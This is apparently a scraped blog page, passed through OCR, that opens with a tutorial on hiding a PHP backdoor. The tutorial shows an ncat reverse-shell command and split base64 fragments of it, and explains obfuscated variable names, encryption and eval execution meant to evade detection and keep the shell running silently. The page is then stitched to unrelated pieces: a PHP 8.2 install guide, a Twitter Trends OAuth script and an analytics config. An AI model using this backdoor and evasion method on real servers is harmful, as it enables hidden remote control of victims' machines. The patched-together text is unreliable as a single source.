Variables names also should consists of special characters like ‘_’ andnumbers, for example if we have language like the Chinese language, maybe one word in English translated to two strings in Chinese, so we can used multiple forms and identifying more than single variable with the same name, like:





This would confuse the code more and more.

Its optionally and recommended in my point of view to encrypt your obfuscated code then make a backdoor decrypt the obfuscated code and run it immediately, so, your code will be very safe because it’s just decrypt a string then execute that string, but deeply it’s a backdoor. Kindly want to note here that windows installation of PHP is very funny, so, it disables the openssl extension by default when installing but allows eval function  .. this means if you want to use the encryption method you should make sure that your target enabled the openssl extension, but if your target was links then no worries.

1. Start crafting the command

Yes we will do obfuscating to our code, but even the system command should be executed somehow safely, you can also obfuscate the system command!, but let’s make it simple this time and make a standard payload but with some security standards to avoid detection, first of all let’s list the standards we’ll follow while doing this crafting:

Connecting to ourremote host using standard port usually opened and whitelisted in Firewalls .e.g. 443.

Turning off any verbose because we want to make everything silent and at the same time clean in the compromised machine.

Running the command in the background trying to make it silent more and more.

And just for notice, system command may not lead directly to reverse shell, for example you can make the powershell download a ps script then run it in the memory directly and gaining reverse shell, but because here we’re concentrating in the obfuscation we’llmake it as simple as we can, so, we’ll use netcat.

The command I used in this obfuscated payload is:

system(“start /b ncat.exe 443 -e cmd.exe”);

And for sure the IP here varied but other than the IP is the same. Now as explained before we should encode, and here the encoded text is:


Note: If you did obfuscated a payload then found a base padding like: — == — at the end of the base you can safely remove it as a type of confusing and hiding the identity of the encoding / base, and we did this here.

Let’s discuss how we should use it in our obfuscated code:

c3lzdGVtKCJ || zdGFydCA || vYiBuY2F0LmV4ZS || AxOTIuMTY4L || jI0NS4 || yMTMgNDQzIC1l || IGNtZC5leGUiKTs

We can truncated with non-standard truncation as you can see above, which means every part of the base64 here will be in different bits, so, when sorting it into thevariables it will be hard to detect if these strings are related to each other or not, for example:

The encoded PHP system command execution and the system command itself.

So, as you can see in the picture above the encoded payload length varied and the sequence is not the right sequence for this encoding to work, but when we gonna decode it, we’ll put the right sequence — obfuscated surely —

2. Handling the decoding function

As we know, we did encoded the payload which will be executed — including the PHP system command executing function — and now we should do the same with decoding function, if remember what we said in the Planning section about the decoding function, we said that even the decoding function should be obfuscated, truncated and non-sorted also. Let’s take a look at this part of the code:

Before continue we should note again that you can make your own base encoding function and obfuscate it — it would be better — even you can do other techniques like ROT13 and you can develop it too. Let’s continue here and discuss the above code, here we did truncated the function name to many parts trying to hide it and also you may ask: but its in plain text, is it ok? and the answer is yes and no:

Yes, because simply it will be putted in reference variables by the way so itwill be hard to find / detect.

No, because we can use techniques like reverse or ROT13 then pass it as function after decoding from these techniques and it would be better.

And now you’ll see that when we going to use it, we’ll use it references which already referenced :), so, it will be like that:

So, now the base64 being used easily as function from the variable which already uses a reference variable mixed with standard variables. Then now it runs the decoding function safely without any problems here.

3. Payload handling while decoding

This part is the easiest part in this techniques, all what you should do is to avoid using the encoded payload part directly, you should use reference variables with the techniques / rules explained before, this make the payload more confused. We can also concatenate the payload by grouping every couple ofencoded parts in a group then using it again — with the right sequence of encoded payload to decode it right — we can discuss that in the following code:

4. Obfuscated payload with reference variables

Here I didn’t marked all the payloads but you get the point now, and if you concentrated here specially:

Here we used the variable $最後の3 to store a part of base64_decode function and at the same time we used $最後の4 to be used as a reference to the variable $_變量1 which stores a part of the payload will be executed, so, it will be confusing to use the same variable with changing only one character for very different purpose, and the same for the other variables highlighted, its the art of obfuscation.

5. Executing the magic

Finally now we’ll execute the decoded base64 using eval function as shown:

And now simply when running it, it will give us the reverse shell we want with persistence even if the user hit CTRL + C because we did it in the background if you remember:

6. Final touches

As mentioned you can also use the encryption to hide the entire obfuscated payload, in the following code:

Here we will encode our obfuscated code first to handle it safely in this encryption phase and to avoid bugs, by the way it will be saved inside base64_decode() function, so, if any other function will handle it, it will be the ordinary code without encoding. We’ll take this encrypted / ciphered backdoor now and will do the following:

Here we’re going to decrypt the ciphered obfuscated payload and run it into eval function immediately as you can see.

7. Conclusion

The obfuscation is an art, there are no limits to what you can do, always thinkcrazily and outside the box, be the red and blue teamer then cock your payload and feed it to the system.

Source: CyberGuy

Install PHP 8.2.8 In Ubuntu NGINX Server

PHP 8.2 also includes bug fixes and performance improvements over previous versions like 8.1. We recommend you test your codebase with PHP 8.2 before upgrading in a production setup, just to ensure that everything works as expected.

In this article we shall cover steps that are used in the installation of PHP 8.2 on Ubuntu 22.04|20.04|18.04. The default version of PHP available on OS repositories is usually older than PHP official latest releases. PPA (Personal Package Archive) software repositories for PHP allows you to install newer releases of PHP on your Ubuntu system that are not available in the official repositories of a Linux distribution.

sudo apt update

sudo apt install -y lsb-release gnupg2 ca-certificates apt-transport-https software-properties-common

sudo add-apt-repository ppa:ondrej/php

sudo apt install php8.2-cli php8.2-fpm php8.2-common php8.2-mysql php8.2-pgsql php8.2-zip php8.2-gd php8.2-mbstring php8.2-curl php8.2-xml php8.2-bcmath php8.2-memcached

php -vPHP 8.2.8 (cli) (built: Jul 8 2023 07:10:21) (NTS)
Copyright (c)The PHP Group
Zend Engine v4.2.8, Copyright (c) Zend Technologies
with Zend OPcache v8.2.8, Copyright (c), by Zend Technologies

How To Get Twitter Trends API OAuth with PHP Script

You currently have Essential access which includes access to Twitter API v2 endpoints only. If you need access to this endpoint, you’ll need to apply for Elevated access via the Developer Portal.

  "errors": [
      "message": "You currently have Essential access which includes access to Twitter API v2 endpoints only. If you need access to this endpoint, you’ll need to apply for Elevated access via the Developer Portal. You can learn more here:",
      "code": 453

Here’s a sample PHPscript that uses the Twitter API OAuth authentication process to get the current trending topics:


// Replace with your own values
$consumer_key = 'xxxxxx';
$consumer_secret = 'xxxxxx';

// Set up the URL for the OAuth request
$url = "";

// Set up the headers for the OAuth request
$headers = array(
    "Content-Type: application/x-www-form-urlencoded;charset=UTF-8",
    "Authorization: Basic " . base64_encode($consumer_key . ":" .$consumer_secret)

// Set up the data for the OAuth request
$data = "grant_type=client_credentials";

// Initialize a cURL session
$curl = curl_init();

// Set the cURL options
curl_setopt($curl, CURLOPT_URL, $url);
curl_setopt($curl, CURLOPT_POST, true);
curl_setopt($curl, CURLOPT_HTTPHEADER, $headers);
curl_setopt($curl, CURLOPT_POSTFIELDS, $data);
curl_setopt($curl, CURLOPT_RETURNTRANSFER, true);

// Send the OAuth request and get the response
$response = curl_exec($curl);

// Close the cURL session

// Decode the JSON response
$json = json_decode($response);

// Get the access token from the response
$access_token = $json->access_token;// Set up the URL for the Trends API request
$url = "";

// Set up the headers for the Trends API request
$headers = array(
    "Authorization: Bearer " . $access_token

// Initialize a new cURL session
$curl = curl_init();

// Set the cURL options
curl_setopt($curl, CURLOPT_URL, $url);
curl_setopt($curl, CURLOPT_HTTPHEADER, $headers);
curl_setopt($curl, CURLOPT_RETURNTRANSFER, true);

// Send the Trends API request and get the response
$response = curl_exec($curl);
// Close the cURL session

// Decode the JSON response
$json = json_decode($response);

// Print out the top 10 trending topics in the United States
for ($i = 0; $i < 10; $i++) {
    echo ($i+1) .". " . $json[0]->trends[$i]->name . "\n";


Make sure to replace YOUR_CONSUMER_KEY and YOUR_CONSUMER_SECRET with your own Twitter API credentials.

This script first makes an OAuth 2.0 request to obtain an access token, then uses that access token to make a request to the Trends API and print out the top 10 trending topics in the United States. You can modify the id parameter in the Trends API URL to get trending topics for a different location.

[wpedon id=2706]

[AmpAnalytics ] No triggers were found in the config.No analytics data will be sent.

<script async custom-element="amp-analytics" src=""></script>

<amp-analytics type="googleanalytics" config="" data-credentials="include">
<script type="application/json">
    "vars": {
                "GA4_MEASUREMENT_ID": "G-XXXXXXXX",
                "GA4_ENDPOINT_HOSTNAME": "",
                "DEFAULT_PAGEVIEW_ENABLED": true,
                "GOOGLE_CONSENT_ENABLED": false,
                "WEBVITALS_TRACKING": false,
                "PERFORMANCE_TIMING_TRACKING":false,
                "SEND_DOUBLECLICK_BEACON":false

As a small sneak-peak,this is the meaning for all the configuration switches.

GA4_ENDPOINT_HOSTNAMEOverride the default endpoint domain. In case you want to send the hits to your own server or a Server Side GTM Instance.
GOOGLE_CONSENT_ENABLED&gcs parameter will be added to the payloads with the current Consent Status
WEBVITALS_TRACKINGIf you enable this a webvitals event will fire 5 seconds afterthe page is visible
PERFORMANCE_TIMING_TRACKINGWhatever you want to push a performance_timing event including the current page load performance timings
DEFAULT_PAGEVIEW_ENABLEDIf enabled a page_view event will fire on the page load
Exit mobile version